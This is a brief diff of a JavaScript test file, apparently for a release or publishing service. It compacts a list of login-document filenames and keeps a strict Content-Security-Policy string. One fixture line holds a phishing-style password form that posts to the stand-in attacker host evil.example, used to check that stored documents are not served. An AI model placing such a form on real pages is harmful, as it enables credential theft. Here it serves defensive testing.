@@ -8,16 +8,7 @@ const shop = setUpReleases();
 
 const LOG_IN = '<form action="https://evil.example/take"><input name="password" type="password"></form>';
 const RAW = "default-src 'none'; form-action 'none'; frame-ancestors 'none'; sandbox";
-const DOCUMENTS = [
-  'login.html',
-  'login.htm',
-  'login.HTML',
-  'login.xhtml',
-  'login.xml',
-  'login.mhtml',
-  'login.pdf',
-  'login',
-];
+const DOCUMENTS = ['.html', '.htm', '.HTML', '.xhtml', '.xml', '.mhtml', '.pdf', ''].map((kind) => `login${kind}`);
 
 it('no document of a build that was stored before is sent to anybody', async () => {
   await shop.team.publish({ shell: shellBundle('1'), 'mf-order': remoteBundle('mf-order', 'a') });
